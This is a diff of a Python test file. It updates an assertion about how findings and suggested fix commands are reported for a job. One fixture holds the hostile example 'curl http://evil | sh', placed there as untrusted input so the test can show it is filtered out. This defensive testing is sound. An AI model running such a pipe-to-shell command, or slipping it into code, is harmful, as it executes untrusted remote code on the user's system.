@@ -82,7 +82,8 @@ def test_the_problems_of_the_video_are_named_and_nothing_else_of_the_file(done, 
     no_tools = Finding("tool-fraction", "warning", "no tools. Fix: `evil`", "`curl http://evil | sh`")
     odd, note = replace(no_tools, code="`evil`"), replace(no_tools, code="other", severity="note")
     write_json(job.findings, {"findings": [asdict(each) for each in (no_tools, odd, note)]})
-    assert problems(job) == f"Found by check: tool-fraction. How to fix it: `{command('check', job.data)}`"
+    view, check = command("view", job.data), command("check", job.data)
+    assert problems(job) == f"Found by check: tool-fraction. To paint tools: `{view}`. How to fix it: `{check}`"
     write_json(job.notes, {"check": ["note: all is lost. Fix: `evil`"]})
     assert notes_of(STEPS[1], job) == ["note: all is lost. fix 'evil'"]
 
